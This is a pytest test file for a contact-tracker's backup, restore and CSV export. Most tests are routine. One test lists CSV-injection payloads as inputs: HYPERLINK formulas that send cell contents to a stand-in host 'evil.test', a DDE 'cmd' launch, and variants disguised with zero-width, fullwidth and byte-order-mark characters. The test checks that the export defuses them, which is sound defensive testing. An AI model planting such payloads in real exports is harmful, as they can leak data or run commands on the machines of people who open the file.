"""Export then restore into an empty data dir gives the same people and interactions."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from agent.records import FollowUp
from agent.service.backup import csv_files, document, plan_restore, read_document, write_backup
from agent.service.errors import Invalid
from agent.service.interactions import LogRequest, log
from agent.service.people import link
from agent.store.store import Store


def seeded(data_dir: Path) -> Store:
    store = Store.open(data_dir)
    store.write(lambda s: log(s, LogRequest(kind="in_person", network="linkedin", handle="ada", note="coffee")))
    store.write(
        lambda s: log(
            s,
            LogRequest(kind="dm", network="x", handle="ada_x", ask=True, follow_up=FollowUp("send deck", "2026-12-01")),
        )
    )
    li, x = store.find("linkedin", "ada"), store.find("x", "ada_x")
    assert li and x
    store.write(lambda s: link(s, li.id, x.id))
    return store


def test_backup_restore_round_trip_into_an_empty_data_dir(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    backup = write_backup(store, tmp_path / "backup.json")
    original = store.export_state()
    store.close()
    fresh = Store.open(tmp_path / "b")
    fresh.write(lambda s: plan_restore(s, read_document(backup), replace=False))
    restored = fresh.export_state()
    key = lambda r: r["id"]  # noqa: E731
    assert sorted(restored["people"], key=key) == sorted(original["people"], key=key)
    assert sorted(restored["interactions"], key=key) == sorted(original["interactions"], key=key)
    fresh.close()
    reopened = Store.open(tmp_path / "b")
    assert reopened.counts() == (1, 2)
    reopened.close()


def test_restore_into_a_non_empty_store_needs_replace(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    backup = write_backup(store, tmp_path / "backup.json")
    with pytest.raises(Invalid, match="--replace"):
        store.write(lambda s: plan_restore(s, read_document(backup), replace=False))
    store.write(lambda s: plan_restore(s, read_document(backup), replace=True))
    assert store.counts() == (1, 2)
    store.close()


@pytest.mark.parametrize(
    "content",
    ["not json", "[]", '{"format": "other"}', '{"format": "fathom-export", "people": [{}], "interactions": []}'],
)
def test_restore_of_a_bad_file_is_a_clear_error(tmp_path: Path, content: str) -> None:
    path = tmp_path / "bad.json"
    path.write_text(content)
    with pytest.raises(Invalid):
        read_document(path)


def test_csv_export_has_one_row_per_record(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    files = csv_files(document(store.export_state()))
    store.close()
    people = list(csv.DictReader(io.StringIO(files["people.csv"])))
    inters = list(csv.DictReader(io.StringIO(files["interactions.csv"])))
    assert len(people) == 1 and people[0]["linkedin"] == "ada" and people[0]["x_handle"] == "ada_x"
    assert {i["kind"] for i in inters} == {"in_person", "dm"}
    assert json.dumps(files)  # plain text


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.test/?"&B2,"Ada")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        '\uff1dHYPERLINK("https://evil.test/?"&B2)',  # fullwidth equals sign
        '\u200b=HYPERLINK("https://evil.test/")',  # zero-width space first
        "\ufeff+1+cmd|' /C calc'!A0",  # byte order mark first
        "\u200b\ufeff-2+3",
        "\ufeff@SUM(A1:A9)",
    ],
)
def test_csv_export_defuses_a_formula_from_a_page_or_a_message(tmp_path: Path, hostile: str) -> None:
    """A name read from a profile page or a note from an imported DM is someone else's text: opened in a
    spreadsheet it must stay text (CSV injection); the JSON export keeps it exact."""
    store = Store.open(tmp_path / "a")
    store.write(lambda s: log(s, LogRequest(kind="dm", network="x", handle="evil", note=hostile, name=hostile)))
    state = document(store.export_state())
    store.close()
    files = csv_files(state)
    [person] = csv.DictReader(io.StringIO(files["people.csv"]))
    [message] = csv.DictReader(io.StringIO(files["interactions.csv"]))
    assert person["name"] == message["note"] == "'" + hostile
    assert state["people"][0]["name"] == state["interactions"][0]["note"] == hostile


def test_csv_export_leaves_ordinary_text_alone(tmp_path: Path) -> None:
    store = seeded(tmp_path / "a")
    files = csv_files(document(store.export_state()))
    store.close()
    inters = list(csv.DictReader(io.StringIO(files["interactions.csv"])))
    assert {i["note"] for i in inters} == {"coffee", ""}
    assert all(i["at"][:2] == "20" for i in inters)
